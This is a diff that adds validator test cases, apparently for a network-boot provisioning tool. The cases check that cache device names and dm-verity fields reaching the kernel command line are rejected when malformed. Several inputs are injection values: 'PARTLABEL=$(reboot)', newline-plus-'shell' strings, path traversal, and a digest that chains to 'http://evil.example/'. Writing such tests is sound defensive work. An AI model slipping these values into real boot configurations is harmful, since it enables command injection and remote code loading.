@@ -77,6 +77,17 @@ INVENTORY_CASES = [
     ("model-url-credentials", "model", "http://me:pw@10.0.2.2/m.gguf", "model"),
     ("target-newline", NODE, [{"name": "n1", "mac": MAC, "target": "cpu\nshell", "role": "rpc-worker",
                                "address": "10.0.2.15"}], "nodes[0]"),
+    # A cache device's name reaches the kernel command line and the initramfs' shell: a stable name only.
+    ("cache-unstable-name", "cache", {"device": "/dev/sda"}, "cache.device"),
+    ("cache-by-id-traversal", "cache", {"device": "/dev/disk/by-id/../../sda"}, "cache.device"),
+    ("cache-partlabel-space", "cache", {"device": f"PARTLABEL=x builder.sha256={SHA}"}, "cache.device"),
+    ("cache-partlabel-shell", "cache", {"device": "PARTLABEL=$(reboot)"}, "cache.device"),
+    ("cache-partlabel-newline", "cache", {"device": "PARTLABEL=cache\nshell"}, "cache.device"),
+    ("cache-wipe-text", "cache", {"device": "PARTLABEL=cache", "wipe": "yes please"}, "cache.wipe"),
+    ("cache-node-unknown-key", NODE, [{"name": "n1", "mac": MAC, "target": "cpu", "role": "rpc-worker",
+                                       "address": "10.0.2.15", "cache": {"device": "PARTLABEL=c", "size": 1}}],
+     "nodes[0].cache"),
+    ("ram-share-zero", "ram_share", 0, "ram_share"),
 ]
 
 
@@ -105,6 +116,13 @@ PULLED_CASES = [
      "files.vmlinuz: needs sha256"),
     ("target-newline", {"target": "cpu\nshell"}, "target"),
     ("digest-newline", {"image_digest": "sha256:" + "0" * 64 + "\nchain http://evil.example/"}, "image_digest"),
+    # The verity fields go onto the kernel command line and into dmsetup's table.
+    ("verity-hash-word", {"verity": {"root_hash": SHA + " builder.cache=id:x", "salt": SHA, "data_blocks": 1,
+                                     "algorithm": "sha256"}}, "verity"),
+    ("verity-blocks-text", {"verity": {"root_hash": SHA, "salt": SHA, "data_blocks": "1 2",
+                                       "algorithm": "sha256"}}, "verity"),
+    ("verity-extra-key", {"verity": {"root_hash": SHA, "salt": SHA, "data_blocks": 1, "algorithm": "sha256",
+                                     "table": "0 1 linear /dev/sda 0"}}, "verity"),
 ]
 
 
